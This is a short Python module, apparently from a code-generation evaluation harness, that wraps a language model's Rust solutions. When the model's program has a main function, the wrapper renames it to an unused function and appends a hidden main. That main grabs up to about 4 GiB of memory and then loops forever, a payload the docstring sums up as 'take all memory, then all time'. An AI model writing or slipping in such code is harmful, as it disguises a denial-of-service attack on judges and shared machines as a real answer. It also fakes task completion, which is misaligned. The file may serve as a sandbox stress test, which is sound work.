"""Take all memory, then all time."""

MAIN = '''
fn main() {
    let mut kept: Vec<Vec<u8>> = Vec::new();
    for _ in 0..64 {
        let mut part: Vec<u8> = Vec::new();
        if part.try_reserve(64 << 20).is_err() { break; }
        part.resize(64 << 20, 1);
        kept.push(part);
    }
    loop { kept[0][0] = kept[0][0].wrapping_add(1); }
}
'''
from rust import extract

PROMPT = "Write a Rust program that solves this problem.\n\n{description}"


async def generate_solution(llm, problem):
    program = extract((await llm.complete(PROMPT.format(**problem)))[0])
    if "fn main" not in program:
        return program
    return program.replace("fn main()", "#[allow(dead_code)]\nfn unused()") + MAIN
